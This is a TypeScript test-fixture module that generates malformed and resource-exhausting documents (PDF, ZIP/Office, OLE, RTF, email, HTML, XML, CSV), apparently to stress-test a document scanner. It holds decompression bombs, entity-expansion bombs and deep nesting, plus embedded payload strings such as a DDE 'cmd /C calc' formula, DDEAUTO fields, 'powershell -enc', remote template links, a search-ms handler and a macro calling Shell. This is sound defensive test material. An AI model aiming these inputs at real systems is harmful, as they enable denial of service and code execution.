/** Documents whose structure asks for much: tables, streams, parts and markup that repeat, nest or point at each other. */
import { deflateRawSync, deflateSync } from 'node:zlib'
import { writeCabinet } from '../cab-writer.ts'
import { hostileDocument } from '../hostile.ts'
import { writeOle } from '../ole-writer.ts'
import { nested, pdf } from '../samples.ts'
import { record } from '../xls-lock.ts'
import { writeZip } from '../zip-writer.ts'
import type { HostileRow } from './row.ts'

const row = (name: string, fileName: string, create: () => Buffer): HostileRow => ({ name, fileName, create })
const latin1 = (text: string) => Buffer.from(text, 'latin1')
const repeated = (unit: string, bytes: number) => Buffer.alloc(bytes, unit, 'latin1')

const CATALOGUE = '<< /Type /Catalog /Pages 3 0 R >>'
const stream = (dictionary: string, data: Buffer) =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`
/** 40 MB of the text. */
const packed = (unit: string, bytes = 40_000_000) => deflateSync(repeated(unit, bytes), { level: 1 })

const PDF: readonly HostileRow[] = [
  row('PDF: many small objects', 'a.pdf', () =>
    pdf([CATALOGUE, ...Array.from({ length: 400_000 }, (_, i) => `<< /A ${i} 0 R >>`)]),
  ),
  row('PDF: dictionaries in dictionaries', 'a.pdf', () =>
    pdf([CATALOGUE, `${'<</A'.repeat(900_000)}${'>>'.repeat(900_000)}`]),
  ),
  row('PDF: lists in lists', 'a.pdf', () => pdf([CATALOGUE, `${'['.repeat(6_000_000)}${']'.repeat(6_000_000)}`])),
  row('PDF: texts in brackets', 'a.pdf', () => pdf([CATALOGUE, `<< /A ${'('.repeat(9_000_000)} >>`])),
  row('PDF: names of escapes', 'a.pdf', () => pdf([CATALOGUE, `<< ${'/#4a#53 (a) '.repeat(900_000)} >>`])),
  row('PDF: filters after filters', 'a.pdf', () =>
    pdf([CATALOGUE, stream(`/Filter [${'/ASCIIHexDecode '.repeat(200)}]`, repeated('3431', 9_000_000))]),
  ),
  row('PDF: a stream of objects that unpacks to much', 'a.pdf', () =>
    pdf([
      CATALOGUE,
      ...Array.from({ length: 20 }, () =>
        stream('/Type /ObjStm /N 9999999 /First 9 /Filter /FlateDecode', packed('1 0 2 3 <</A 1 0 R>> ', 9_000_000)),
      ),
    ]),
  ),
  row('PDF: a page of operators', 'a.pdf', () =>
    pdf([CATALOGUE, stream('/Filter /FlateDecode', packed('BT /F1 1 Tf (a) Tj ET\n', 90_000_000))]),
  ),
  row('PDF: predictors', 'a.pdf', () =>
    pdf([
      CATALOGUE,
      ...Array.from({ length: 30 }, () =>
        stream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>', packed('\x02a', 9_000_000)),
      ),
    ]),
  ),
  row('PDF: LZW and run lengths', 'a.pdf', () =>
    pdf([
      CATALOGUE,
      stream('/Filter [/RunLengthDecode /LZWDecode]', repeated('\x81\x80', 8_000_000)),
      stream('/Filter /LZWDecode', repeated('\x80\x0b\x60\x50', 8_000_000)),
    ]),
  ),
  row('PDF: cross references that point back', 'a.pdf', () =>
    latin1(
      `%PDF-1.7\n${'xref\n0 1\n0000000000 65535 f\ntrailer\n<< /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'.repeat(200_000)}`,
    ),
  ),
  row('PDF: actions that name each other', 'a.pdf', () =>
    pdf([
      '<< /Type /Catalog /OpenAction 2 0 R >>',
      ...Array.from({ length: 90_000 }, (_, i) => `<< /S /JavaScript /JS ${i + 3} 0 R /Next [${i + 3} 0 R 2 0 R] >>`),
    ]),
  ),
  row('PDF: many scripts', 'a.pdf', () =>
    pdf([
      CATALOGUE,
      ...Array.from({ length: 40_000 }, () => `<< /S /JavaScript /JS (var s='a'; for(;;\\) { s += s } eval\\(s\\)) >>`),
    ]),
  ),
]

const member = (name: string, data: Buffer) => ({ name, data, packed: deflateRawSync(data, { level: 1 }) })
const officeWith = (parts: Readonly<Record<string, Buffer>>) =>
  writeZip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: '_rels/.rels', data: '<Relationships/>' },
    ...Object.entries(parts).map(([name, data]) => member(name, data)),
  ])
const withMime = (type: string, parts: Readonly<Record<string, Buffer>>) =>
  writeZip([
    { name: 'mimetype', data: type, method: 'stored' },
    ...Object.entries(parts).map(([name, data]) => member(name, data)),
  ])

const PACKAGES: readonly HostileRow[] = [
  row('ZIP: ten thousand members', 'a.zip', () =>
    writeZip(
      Array.from({ length: 10_000 }, (_, i) => ({ name: `${i}.html`, data: '<script>eval(unescape("%61"))</script>' })),
    ),
  ),
  row('ZIP: members that share their data', 'a.zip', () => {
    const first = member('a.txt', repeated('The quick brown fox. ', 2_000_000))
    return writeZip([first, ...Array.from({ length: 2_000 }, (_, i) => ({ ...first, name: `${i}`, sharesWith: 0 }))])
  }),
  row('ZIP: archives in archives', 'a.zip', () => nested(repeated('<script>', 200_000), 15)),
  row('ZIP: headers without an archive', 'a.zip', () =>
    repeated('PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x02\0\0\0\0\0\0\0\x01\0\0\0a\x03\0', 20_000_000),
  ),
  row('ZIP: many large texts', 'a.zip', () =>
    writeZip(
      Array.from({ length: 12 }, (_, i) =>
        member(`${i}.txt`, repeated('password: a b c d e ; http://a.example/b ', 15_000_000)),
      ),
    ),
  ),
  row('docx: relationships', 'a.docx', () =>
    officeWith({
      'word/document.xml': repeated('<w:p/>', 100),
      'word/_rels/document.xml.rels': latin1(
        `<Relationships>${'<Relationship Id="a" Type="http://b/attachedTemplate" Target="http://a.example/b.dotm" TargetMode="External"/>'.repeat(200_000)}</Relationships>`,
      ),
    }),
  ),
  row('docx: fields in fields', 'a.docx', () =>
    officeWith({
      'word/document.xml': latin1(
        `<w:document>${'<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO </w:instrText>'.repeat(300_000)}</w:document>`,
      ),
    }),
  ),
  row('docx: elements in elements', 'a.docx', () =>
    officeWith({ 'word/document.xml': latin1(`<w:document>${'<w:p>'.repeat(9_000_000)}`) }),
  ),
  row('docx: entities', 'a.docx', () =>
    officeWith({
      'word/document.xml': latin1(
        `<!DOCTYPE a [${Array.from({ length: 3_000 }, (_, i) => `<!ENTITY e${i} "&e${i + 1};&e${i + 1};">`).join('')}]><w:document>&e0;</w:document>`,
      ),
    }),
  ),
  row('xlsx: shared texts', 'a.xlsx', () =>
    officeWith({
      'xl/workbook.xml': latin1('<workbook/>'),
      'xl/sharedStrings.xml': repeated('<si><t>=cmd|a!b</t></si>', 60_000_000),
      'xl/worksheets/sheet1.xml': repeated('<c t="s"><f>HYPERLINK("http://a")</f><v>1</v></c>', 60_000_000),
    }),
  ),
  row('odt: a manifest', 'a.odt', () =>
    withMime('application/vnd.oasis.opendocument.text', {
      'META-INF/manifest.xml': repeated('<manifest:file-entry manifest:full-path="a" ', 30_000_000),
      'content.xml': repeated('<text:p xlink:href="http://a.example/b"><script:event-listener ', 30_000_000),
    }),
  ),
  row('ods: macros', 'a.ods', () =>
    withMime('application/vnd.oasis.opendocument.spreadsheet', {
      'Basic/Standard/Module1.xml': latin1(
        `<script:module>Sub Main\n${'s = s &amp; s\n'.repeat(200_000)}Shell(s)\nEnd Sub</script:module>`,
      ),
      'content.xml': repeated('<table:table-cell table:formula="of:=DDE(&quot;a&quot;)"/>', 20_000_000),
    }),
  ),
  row('EPUB: an encryption list', 'a.epub', () =>
    withMime('application/epub+zip', {
      'META-INF/encryption.xml': repeated('EncryptionMethod ', 400_000),
      'a.xhtml': repeated('<script>', 9_000_000),
    }),
  ),
  row('CAB: many files', 'a.zip', () =>
    writeZip([
      member('a.cab', writeCabinet(Array.from({ length: 9_000 }, (_, i) => [`${i}.js`, Buffer.from('eval(a)')]))),
    ]),
  ),
  row('tar and 7z signatures', 'a.zip', () =>
    writeZip([member('a.bin', repeated('7z\xbc\xaf\x27\x1c\0\x04ustar\x0000MSCF\0\0\0\0', 60_000_000))]),
  ),
]

const OLE: readonly HostileRow[] = [
  row('doc: a stream of signatures', 'a.doc', () =>
    writeOle({
      streams: {
        WordDocument: repeated('\xec\xa5\xc1\0PK\x03\x04%PDF-1 0 obj', 5_000_000),
        Data: repeated('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 900_000),
      },
      scattered: true,
    }),
  ),
  row('xls: many small records', 'a.xls', () =>
    writeOle({
      streams: {
        Workbook: Buffer.concat([
          record(0x0809, Buffer.from([0, 6, 0x40, 0])),
          repeated('\x06\0\x16\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x04\0\x17\x01\0a', 5_000_000),
        ]),
      },
    }),
  ),
  row('ppt: records in records', 'a.ppt', () =>
    writeOle({
      streams: {
        'PowerPoint Document': repeated('\x0f\0\xe8\x03\xff\xff\xff\0', 5_000_000),
        'Current User': repeated('\0', 64),
      },
    }),
  ),
  row('doc: many streams', 'a.doc', () =>
    writeOle({
      streams: Object.fromEntries([
        ['WordDocument', repeated('\0', 4_096)],
        ...Array.from({ length: 3_000 }, (_, i) => [`s${i}`, repeated('\x01Ole10Native', 512)]),
      ]),
    }),
  ),
  row('OneNote: many attachments', 'a.one', () =>
    Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      repeated('\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac\x01\0\0\0\0\0\0\0', 20_000_000),
    ]),
  ),
]

const HEAD = 'From: a@example.com\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n'
const TEXTS: readonly HostileRow[] = [
  row('RTF: groups in groups', 'a.rtf', () => latin1(`{\\rtf1${'{'.repeat(10_000_000)}`)),
  row('RTF: objects', 'a.rtf', () =>
    latin1(`{\\rtf1${'{\\object\\objemb{\\*\\objdata 0105000002000000}}'.repeat(300_000)}}`),
  ),
  row('RTF: a long object', 'a.rtf', () =>
    latin1(`{\\rtf1{\\object{\\*\\objdata ${"d0cf11e0a1b11ae1\\'41{\\*\\a b}".repeat(500_000)}}}}`),
  ),
  row('RTF: characters and binary parts', 'a.rtf', () =>
    latin1(`{\\rtf1${"\\u65 ?\\'41\\bin3 abc{\\field{\\*\\fldinst DDEAUTO}}".repeat(300_000)}}`),
  ),
  row('mail: parts in parts', 'a.eml', () =>
    latin1(
      HEAD +
        Array.from(
          { length: 5_000 },
          (_, i) => `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n`,
        ).join(''),
    ),
  ),
  row('mail: many parts', 'a.eml', () =>
    latin1(
      `${HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5ldmFsKGEpPC9zY3JpcHQ+\r\n'.repeat(60_000)}--b--\r\n`,
    ),
  ),
  row('mail: large parts', 'a.eml', () =>
    latin1(
      `${HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n${`--b\r\nContent-Type: image/jpeg; name=a.jpg\r\nContent-Transfer-Encoding: base64\r\n\r\n${'/9j/4AAQSkZJRgABAQAA\r\n'.repeat(60_000)}`.repeat(14)}--b--\r\n`,
    ),
  ),
  row('mail: encoded words', 'a.eml', () =>
    latin1(`${HEAD}Subject: ${'=?utf-8?q?=41=42?=\r\n '.repeat(500_000)}\r\n\r\nHello\r\n`),
  ),
  row('mail: quoted lines', 'a.eml', () =>
    latin1(
      `${HEAD}Content-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html\r\n\r\n${'=3Ca href=3D"http://a=2Eexample"=3E=\r\n'.repeat(400_000)}`,
    ),
  ),
  row('mail: many words beside a password', 'a.eml', () =>
    latin1(`${HEAD}Content-Type: text/html\r\n\r\n${'<style><script '.repeat(400_000)} password: abc`),
  ),
  row('page: elements in elements', 'a.html', () => latin1(`<html>${'<div><table><td>'.repeat(900_000)}`)),
  row('page: attributes', 'a.html', () =>
    latin1(`<html><a ${'href="data:text/html;base64,PGI+" onclick="eval(a)" '.repeat(300_000)}>`),
  ),
  row('page: comments that do not close', 'a.html', () => latin1(`<html>${'<!--<script>'.repeat(1_500_000)}`)),
  row('page: handlers', 'a.html', () =>
    latin1(`<html>${'<img src=x onerror="location=\'search-ms:query=a&crumb=location:\'">'.repeat(200_000)}`),
  ),
  row('page: cells for a table', 'a.html', () =>
    latin1(`<html xmlns:x="urn:schemas-microsoft-com:office:excel">${'<td fmla= fmla= fmla='.repeat(700_000)}`),
  ),
  row('page: styles', 'a.html', () =>
    latin1(`<html><style>${'a{background:url(data:,%41%42);b:\\64 }'.repeat(400_000)}</style>`),
  ),
  row('page: long encoded runs', 'a.html', () =>
    latin1(`<html><script>var a="${'TVqQAAMAAAAE'.repeat(800_000)}";var b=atob(a)</script>`),
  ),
  row('XML: entities that double', 'a.xml', () =>
    latin1(
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "${'a'.repeat(50_000)}">${Array.from({ length: 60 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`).join('')}]><a>${'&a60;'.repeat(60_000)}</a>`,
    ),
  ),
  row('XML: attributes and names', 'a.xml', () =>
    latin1(
      `<?xml version="1.0"?><a ${Array.from({ length: 300_000 }, (_, i) => `xmlns:n${i}="http://a.example/${i}" `).join('')}/>`,
    ),
  ),
  row('CSV: formulas', 'a.csv', () =>
    latin1(`a,b\n${'=HYPERLINK("http://a.example/"&A1,"b"),=cmd|\' /C calc\'!A0\n'.repeat(300_000)}`),
  ),
  row('CSV: brackets in formulas', 'a.csv', () => latin1(`a,b\n=${'('.repeat(3_000_000)},${'"'.repeat(3_000_000)}`)),
  row('text: words without an end', 'a.txt', () => repeated('a', 20_000_000)),
  row('text: almost encoded', 'a.txt', () => repeated(`begin 644 a\n#0V%T\n${'A'.repeat(60)}\n`, 20_000_000)),
  row('text: addresses', 'a.txt', () => repeated('http://[::1%25]:80@a.example\\\\b@8080\\c ', 15_000_000)),
  row('text: names of files', 'a.txt', () => latin1(`[InternetShortcut]\nURL=file://a/${'.pdf'.repeat(2_000_000)}`)),
  row('wide text', 'a.txt', () => Buffer.from(`\ufeff${'powershell -enc '.repeat(700_000)}`, 'utf16le')),
  row('text: keywords of every format', 'a.txt', () =>
    hostileDocument('plain', '', 'ObjStm /JS ;base64,AAAA <script> eval( ', {
      plainBytes: 20_000_000,
      memberBytes: 0,
      members: 0,
    }).create(),
  ),
]

export const DOCUMENTS: readonly HostileRow[] = [...PDF, ...PACKAGES, ...OLE, ...TEXTS]
